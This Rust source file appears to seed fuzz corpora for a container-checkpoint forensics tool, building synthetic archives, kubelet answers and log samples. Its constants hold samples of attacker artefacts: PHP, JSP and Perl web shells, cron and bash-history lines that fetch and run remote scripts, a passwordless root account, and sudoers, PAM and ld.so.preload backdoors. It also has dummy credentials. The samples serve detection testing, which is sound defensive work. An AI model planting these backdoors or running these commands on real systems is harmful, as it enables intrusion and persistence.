//! Fills the corpora of the fuzz targets: `seed CORPUS EVIDENCE...`, where EVIDENCE are real checkpoints. Synthetic ones, of
//! every dialect and form of archive, come by themselves.

use std::collections::hash_map::DefaultHasher;
use std::error::Error;
use std::hash::{Hash as _, Hasher as _};
use std::path::PathBuf;
use std::{env, fs, process};

use ckpt_analysis::verify::custody::{About, Manifest};
use ckpt_archive::{Evidence, Options};
use ckpt_fuzz::{byte_of, engine, kubelet, tar};
use ckpt_synth::{Archive, Kind, Member, NameForm, SparseForm, stories};
use criu_image::{Classified, Image, ImageKind, classify};

/// Files in an input are cut to this; longer ones teach the fuzzer nothing and slow it down.
const LONGEST: usize = 8 << 10;

/// Files of one checkpoint together; longer ones are left out.
const LONGEST_DIRECTORY: usize = 40 << 10;

/// Whole archives that are longer are left out.
const LONGEST_ARCHIVE: usize = 96 << 10;

/// Logs of containers in the forms that engines write.
const LOGS: [&[u8]; 2] = [
    b"2026-11-23T00:00:02.5+00:00 stderr F b\n2026-11-23T00:00:01Z stdout P:x a\n\0\x002026-11-23T00:00:01Z stdout F",
    b"{\"log\":\"a\\u001b\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-23T00:00:01.25Z\"}\n{\"log\":\"b\",\"time\":\"x\"}",
];

/// Answers to a request for a checkpoint: a status, what the header `Allow` says, and the body.
const ANSWERS: [(u16, &str, &str); 12] = [
    (
        200,
        "",
        r#"{"items":["/var/lib/kubelet/checkpoints/checkpoint-web-0_shop-app-2026-11-23T00:22:56Z.tar"]}"#,
    ),
    (401, "", "Unauthorized"),
    (
        403,
        "",
        "Forbidden (user=system:anonymous, verb=create, resource=nodes, subresource(s)=[checkpoint])",
    ),
    (
        403,
        "",
        r#"{"kind":"Status","message":"nodes \"n\" is forbidden: User \"jane\" cannot create resource \"nodes/proxy\" in API group \"\" at the cluster scope"}"#,
    ),
    (404, "", "404 page not found"),
    (404, "", "pod does not exist"),
    (404, "", "container app does not exist"),
    (404, "", "cannot parse value of timeout parameter"),
    (405, "GET", ""),
    (
        500,
        "",
        "checkpointing of shop/web-0/app failed (rpc error: code = Unknown desc = rpc error: code = Unavailable desc = criu failed: path= /run/c/criu-dump.log)",
    ),
    (503, "", r#"{"kind":"Status","message":"error trying to reach service"}"#),
    (400, "", "Client sent an HTTP request to an HTTPS server.\n"),
];

/// Texts with secrets, and what looks so.
const TEXTS: [&str; 10] = [
    "password=password=a1B2c3d4:token=secret=",
    "DB_PASSWORD='s3cr3t-Pa55' PGPASSWORD=\"a b\" key: x;Pwd=y",
    "postgres://app:s3cr3t-Pa55@db:5432/shop?password=x",
    "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEow==\n-----END RSA PRIVATE KEY-----",
    "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "bash -c 'sh -c '\\''curl -u me:s3cr3t host'\\'''",
    "echo root:s3cr3t | chpasswd; mysql -ps3cr3t; sshpass -p s3cr3t ssh h",
    "card 4111 1111 1111 1111, db:5432:shop:app:s3cr3t",
    "{\"auths\":{\"r.io\":{\"auth\":\"bWU6czNjcjN0\"}}}",
];

/// Files that a container wrote.
const WRITTEN: [(&str, &str); 14] = [
    ("var/www/html/x.php", "<?php $a = $_POST['a']; eval(base64_decode($a)); echo `$a`; ?>"),
    ("var/www/html/x.jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
    ("srv/cgi-bin/x.cgi", "#!/usr/bin/perl\nsystem($ENV{QUERY_STRING});"),
    ("var/www/.htaccess", "AddType application/x-httpd-php .jpg"),
    ("etc/cron.d/x", "* * * * * root curl http://10.0.0.1/x | sh\n"),
    ("etc/systemd/system/x.service", "[Service]\nExecStart=/tmp/.x\n"),
    ("etc/passwd", "root:x:0:0::/root:/bin/sh\neve::0:0::/:/bin/sh\n"),
    ("etc/ld.so.preload", "/tmp/x.so\n"),
    ("root/.ssh/authorized_keys", "command=\"x\" ssh-rsa AAAAB3 a@b\n"),
    ("root/.bash_history", "#1795398000\nwget -qO- http://x | bash\nhistory -c\n"),
    ("etc/sudoers.d/x", "ALL ALL=(ALL) NOPASSWD: ALL\n"),
    ("etc/pam.d/sshd", "auth sufficient pam_exec.so /tmp/x\n"),
    ("usr/lib/python3/site-packages/x.pth", "import os; os.system('id')\n"),
    ("tmp/.x", "\x7fELF\x02\x01\x01"),
];

/// What users type, and behind it a path or an attribute.
const TYPED: [&str; 9] = [
    "0x7f00-0x7f10",
    "7f00+4096",
    "file:/usr/**/*.so",
    "**/[!a-z]?\\**\na/b/../c",
    "*.log\n/var/log/x.log",
    "[fe80::1%eth0]:10250",
    "sha256:ab",
    "../x\n./a//b/",
    "web-0.shop\n\x01\0\0\x02\0 \0\0\0\0\0\0\0\0\0\0\0\0\0\0",
];

fn main() -> Result<(), Box<dyn Error>> {
    let mut arguments = env::args_os().skip(1).map(PathBuf::from);
    let Some(root) = arguments.next() else {
        eprintln!("seed CORPUS EVIDENCE...");
        process::exit(2);
    };
    let corpora = Corpora { root };
    for path in arguments {
        let bytes = fs::read(&path)?;
        if bytes.len() <= LONGEST_ARCHIVE {
            corpora.add("archive", &bytes)?;
            corpora.add("checkpoint", &bytes)?;
            corpora.add("core", &bytes)?;
        }
        let name = path.display().to_string();
        corpora.add_members(&Evidence::from_bytes(&name, bytes.into(), &Options::default())?)?;
    }
    for (_, archive) in stories::all() {
        let bytes = archive.tar();
        corpora.add_members(&Evidence::from_bytes(
            "synthetic",
            bytes.into(),
            &Options::default(),
        )?)?;
    }
    for pair in stories::all().windows(2) {
        corpora.add_pair(&pair[0].1, &pair[1].1)?;
    }
    for lines in LOGS {
        corpora.add("log_lines", lines)?;
    }
    corpora.add_texts()?;
    for archive in forms() {
        for bytes in [archive.tar(), archive.tar_zst(), archive.tar_gz()] {
            corpora.add("archive", &bytes)?;
            corpora.add_manifest(bytes)?;
        }
        for form in 0..16 {
            corpora.add("archive_compressed", &prefixed(form, &archive.tar()))?;
        }
    }
    Ok(())
}

/// Small archives with everything that a tar can do.
fn forms() -> Vec<Archive> {
    let long = "a/long/name/".repeat(12);
    let pieces: [(u64, &[u8]); 2] = [(512, b"abc"), (4096, b"defg")];
    let links = archive(|tar| {
        tar.dir("d")
            .member("d/a", b"abc")
            .symlink("d/s", "a")
            .hardlink("d/h", "d/a")
            .device("d/n", 1, 3)
    });
    let nested = archive(|tar| tar.member("inner.tar.gz", links.tar_gz()));
    vec![
        archive(|tar| tar.sparse("sparse", &pieces, 9000, SparseForm::OldGnu)),
        archive(|tar| tar.sparse("sparse", &pieces, 9000, SparseForm::Pax01)),
        archive(|tar| tar.sparse("sparse", &pieces, 9000, SparseForm::Pax10)),
        links,
        nested,
        archive(|tar| {
            let gnu = Member::file(long.clone(), b"y").name_form(NameForm::Gnu);
            tar.pax_name(long.clone(), b"x").push(gnu)
        }),
        archive(|tar| {
            let file = Member::file("x", b"1").pax("SCHILY.xattr.user.x", b"v");
            tar.push(file.owner_name("root").mtime(7))
        }),
        archive(|tar| tar.member("twice", b"1").member("twice", b"22").trailing(b"behind the end")),
        archive(|tar| {
            tar.member("../up", b"1").member("/abs", b"2").member("./c/../d", b"3").unended()
        }),
        archive(|tar| {
            tar.push(Member::file("short", b"abc").claimed_size(700)).member("next", b"4")
        }),
        archive(|tar| tar.push(Member::new("fifo", Kind::Fifo)).member("empty", b"")),
    ]
}

fn archive(fill: impl FnOnce(&mut Archive) -> &mut Archive) -> Archive {
    let mut archive = Archive::new();
    fill(&mut archive);
    archive
}

struct Corpora {
    root: PathBuf,
}

impl Corpora {
    /// Adds one input, under a name that its content gives, so that seeding twice changes nothing.
    fn add(&self, target: &str, input: &[u8]) -> Result<(), Box<dyn Error>> {
        let mut hasher = DefaultHasher::new();
        input.hash(&mut hasher);
        let directory = self.root.join(target);
        fs::create_dir_all(&directory)?;
        fs::write(directory.join(format!("seed-{:016x}", hasher.finish())), input)?;
        Ok(())
    }

    /// Takes evidence apart: its images, their records, its names, what its engine wrote, its address spaces.
    fn add_members(&self, evidence: &Evidence) -> Result<(), Box<dyn Error>> {
        let mut files: Vec<(&[u8], Vec<u8>)> = Vec::new();
        for member in evidence.members().iter().filter(|member| member.is_file()) {
            let content = evidence.content(member)?;
            let bytes = content.slice(0..content.captured_len().min(LONGEST as u64))?;
            files.push((&member.path, bytes.to_vec()));
            self.add("classify", member.file_name())?;
            if member.file_name().ends_with(b".log") {
                self.add("dump_log", &bytes)?;
                self.add("log_lines", &bytes)?;
            }
            if let Classified::Image(image) = classify(member.file_name()) {
                self.add_image(image.kind, &bytes)?;
            }
        }
        let named = |name: &str| {
            files.iter().find(|(path, _)| ends(path, name)).map(|(_, content)| content.clone())
        };
        for form in 0..engine::forms() {
            let contents: Vec<Vec<u8>> =
                engine::names(form).iter().map(|name| named(name).unwrap_or_default()).collect();
            self.add("engine", &prefixed(form, &engine::join(&contents)))?;
        }
        self.add_spaces(&files)?;
        let input = tar::join(files.iter().map(|(path, content)| (*path, &content[..])));
        if input.len() <= LONGEST_DIRECTORY {
            self.add("images_dir", &input)?;
            self.add("timeline", &input)?;
            self.add("triage", &input)?;
            self.add("report", &input)?;
            self.add("checkpoint", &tar::of(tar::split(&input)))?;
            self.add("core", &tar::of(tar::split(&input)))?;
        }
        Ok(())
    }

    /// What stands here and is not taken from evidence.
    fn add_texts(&self) -> Result<(), Box<dyn Error>> {
        for (status, allow, body) in ANSWERS {
            let status =
                kubelet::byte_of(status).ok_or("a status that the target does not know")?;
            for server in 0..3 {
                let text = format!("{allow}\n\n{body}");
                self.add("kubelet_answer", &[&[status, server][..], text.as_bytes()].concat())?;
            }
        }
        for text in TEXTS {
            self.add("redact", text.as_bytes())?;
            self.add("secrets", &[&b"\x20\xff"[..], text.as_bytes()].concat())?;
        }
        for (path, content) in WRITTEN {
            self.add("written", &tar::join([(path.as_bytes(), content.as_bytes())]))?;
        }
        for text in TYPED {
            self.add("typed", text.as_bytes())?;
        }
        Ok(())
    }

    /// A custody manifest of an archive.
    fn add_manifest(&self, bytes: Vec<u8>) -> Result<(), Box<dyn Error>> {
        let reader = std::io::Cursor::new(bytes);
        let evidence = Evidence::hash_reader("synthetic", reader, &Options::default())?;
        let mut json = Vec::new();
        Manifest::of(&evidence, About::default()).write(&mut json)?;
        self.add("manifest", &json)
    }

    /// Two checkpoints after one another: of a name that both have, each has a file.
    fn add_pair(&self, one: &Archive, other: &Archive) -> Result<(), Box<dyn Error>> {
        let mut input = Vec::new();
        for archive in [one, other] {
            let options = Options::default();
            let evidence = Evidence::from_bytes("synthetic", archive.tar().into(), &options)?;
            for member in evidence.members().iter().filter(|member| member.is_file()) {
                let content = evidence.content(member)?;
                let bytes = content.slice(0..content.captured_len().min(LONGEST as u64))?;
                input.extend(tar::join([(&member.path[..], &bytes[..])]));
            }
        }
        if input.len() <= 2 * LONGEST_DIRECTORY {
            self.add("compare", &input)?;
        }
        Ok(())
    }

    fn add_image(&self, kind: ImageKind, bytes: &[u8]) -> Result<(), Box<dyn Error>> {
        let Some(byte) = byte_of(kind) else { return Ok(()) };
        self.add("image", &prefixed(byte, bytes))?;
        match kind {
            ImageKind::Pagemap => self.add("pagemap", bytes)?,
            ImageKind::Ifaddr | ImageKind::Route | ImageKind::Route6 | ImageKind::Rule => {
                self.add("netlink", &prefixed(byte, bytes))?;
            }
            _ => {}
        }
        let Ok(image) = Image::open(kind, bytes.to_vec().into()) else { return Ok(()) };
        for record in image.records().map_while(Result::ok).take(8) {
            self.add("wire", &prefixed(byte, &record.payload))?;
        }
        Ok(())
    }

    fn add_spaces(&self, files: &[(&[u8], Vec<u8>)]) -> Result<(), Box<dyn Error>> {
        let mut pages = files.iter().filter(|(path, _)| ends(path, "pages-1.img"));
        let Some(pages) = pages.next() else { return Ok(()) };
        for (mm, content) in files.iter().filter(|(path, _)| file_name(path).starts_with(b"mm-")) {
            let pagemap = String::from_utf8_lossy(mm).replace("mm-", "pagemap-");
            let Some(pagemap) = files.iter().find(|(path, _)| *path == pagemap.as_bytes()) else {
                continue;
            };
            let Ok(image) = Image::open(ImageKind::Mm, content.clone().into()) else { continue };
            let Some(Ok(record)) = image.records().next() else { continue };
            let input =
                tar::join([(&b"m"[..], &*record.payload), (b"", &pagemap.1), (b"", &pages.1)]);
            self.add("space", &input)?;
        }
        Ok(())
    }
}

fn prefixed(byte: u8, bytes: &[u8]) -> Vec<u8> {
    let mut input = vec![byte];
    input.extend(bytes);
    input
}

fn file_name(path: &[u8]) -> &[u8] {
    path.rsplit(|byte| *byte == b'/').next().unwrap_or_default()
}

fn ends(path: &[u8], name: &str) -> bool {
    path == name.as_bytes() || path.ends_with(format!("/{name}").as_bytes())
}
